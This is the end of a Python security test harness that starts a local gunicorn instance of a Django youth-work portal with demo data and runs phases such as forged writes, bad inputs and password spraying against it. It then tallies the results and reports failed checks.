                    [f"median {statistics.median(latencies):.2f} s, max {max(latencies):.2f} s"] if latencies else [])))
            continue
        extra = ", ".join(f"{k} {v:,}" for k, v in sorted(c.items()) if k not in
                          ("requests", "2xx", "3xx", "4xx", "5xx", "leaks", "changes", "failed"))
        lines.append(
            f"| {tally.name} | {c['requests']:,} | {c['2xx']:,} | {c['3xx']:,} | {c['4xx']:,} | {c['5xx']:,} | "
            f"{c['leaks'] + c['changes']:,} | {c['failed']:,} | "
            + (f"{statistics.median(latencies) * 1000:.0f} | {percentile(latencies, 0.95) * 1000:.0f}"
               if latencies else "— | —")
            + f" | {extra} |")
    requests_total = sum(t.counts["requests"] for t in RESULTS.tallies.values())
    lines.append("")
    lines += others
    lines.append(f"{requests_total:,} requests in {total_seconds:.0f} s; {len(RESULTS.findings)} check(s) failed.")
    return "\n".join(lines)


# --- The run ------------------------------------------------------------------------------------------------------


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--keep", action="store_true", help="Keep the temporary folder (database, gunicorn log).")
    parser.add_argument("--sample", type=int, default=4, help="Objects per URL and side (default 4).")
    parser.add_argument("--skip", default="", help="Leave out phases: reads, admin, methods, writes, bad, exports, "
                        "spray (comma-separated; while working on the harness).")
    args = parser.parse_args()
    skip = {name.strip() for name in args.skip.split(",") if name.strip()}
    started = time.perf_counter()
    folder = Path(tempfile.mkdtemp(prefix="youthwork-attack-"))
    port = free_port()
    env = portal_environment(folder, port)
    os.environ.update(env)
    server = Gunicorn(env, folder, port)
    say(f"== attack: {time.strftime('%Y-%m-%d %H:%M:%S %z')}, folder {folder}, port {port}")
    try:
        import django

        django.setup()
        from tracker.demo import DEMO_PASSWORD

        with timed("setup"):
            times = build_database()
            personas, spray = prepare_people(DEMO_PASSWORD)
            plant_markers()
            objects = admin_objects(args.sample, make_history=True)
        say("   database: " + ", ".join(f"{k} {v:.1f} s" for k, v in times.items()))
        from django.db import connection

        connection.close()
        with timed("setup"):
            server.start()
        base = f"http://{HOST}:{port}"
        attack = Attack(base, personas, DEMO_PASSWORD, folder / "db.sqlite3", args.sample)
        say(f"== gunicorn on {base}; signing in {len(personas)} personas")
        with timed("sign-in"):
            for persona in personas:
                seconds = sign_in(attack.browser(persona.username), DEMO_PASSWORD)
                RESULTS.tally("sign-in").latencies.append(seconds)
                RESULTS.count("sign-in", "personas")
        say("== records made through the forms (hostile text; what the demo lacks)")
        phase_seed(attack)
        attack.scanner.refresh()
        attack.admin_owners = admin_owners()
        attack.catalog = Catalog(args.sample)
        objects = admin_objects(args.sample)
        phases = [
            ("calibration: the administrator opens every object page", "reads", lambda: phase_calibrate(attack)),
            ("reads: portal", "reads", lambda: phase_reads(attack)),
            ("reads: admin site", "admin", lambda: phase_admin_reads(attack, objects)),
            ("wrong methods", "methods", lambda: phase_wrong_methods(attack, objects)),
            ("forged writes: portal", "writes", lambda: phase_writes(attack)),
            ("forged writes: admin site", "admin", lambda: phase_admin_writes(attack, objects)),
            ("bad inputs", "bad", lambda: phase_bad_inputs(attack, objects)),
            ("exports", "exports", lambda: phase_exports(attack)),
            ("password spraying", "spray", lambda: phase_spray(attack, spray)),
            ("sign-in rate", "spray", lambda: phase_rate(attack, spray[0], DEMO_PASSWORD, port)),
        ]
        for title, key, run in phases:
            if key in skip:
                continue
            say(f"== {title}")
            phase_started = time.perf_counter()
            try:
                run()
            except Exception:  # noqa: BLE001 - the harness's own failure is reported and the rest still runs
                RESULTS.fail(Finding("harness", "", "", "", f"the phase “{title}” stopped:\n"
                                     + traceback.format_exc(limit=6)))
            RESULTS.tally(PHASE_TIMES).counts[title] = round(time.perf_counter() - phase_started)
        errors = server.server_errors()
        if errors:
            RESULTS.fail(Finding("server log", "", "", "", f"{len(errors)} 500(s) logged by Django: "
                                 + "; ".join(errors[:5])))
        deploy_check(env)
    finally:
        server.stop()
        if args.keep:
            say(f"kept {folder}")
        else:
            shutil.rmtree(folder, ignore_errors=True)
    total = time.perf_counter() - started
    report_findings()
    say(summary(total))
    for tally in RESULTS.tallies.values():
        for note in tally.notes[:20]:
            say(f"  note ({tally.name}): {note}")
    return 1 if RESULTS.findings else 0


if __name__ == "__main__":
    sys.exit(main())
